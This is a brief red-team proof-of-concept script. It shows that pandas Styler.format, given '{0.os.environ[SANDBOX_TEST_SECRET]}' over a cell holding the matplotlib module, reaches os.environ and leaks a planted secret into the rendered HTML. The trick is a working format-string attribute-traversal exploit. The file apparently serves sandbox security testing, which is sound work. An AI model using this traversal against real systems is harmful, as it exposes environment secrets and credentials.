# (c) pandas Styler.format("{0.os.environ[SANDBOX_TEST_SECRET]}") calls str.format on cell values unguarded; cell holds the matplotlib module; driver sees planted-secret in the returned HTML
# red team 2026-12-07, docs/redteam-2026-12-07/success_19_styler_format_env.py.txt
import pandas as pd
import matplotlib
from pandas.io.formats.style import Styler

df = pd.DataFrame({"a": [matplotlib]})
result = Styler(df).format("{0.os.environ[SANDBOX_TEST_SECRET]}").to_html()
print(result)
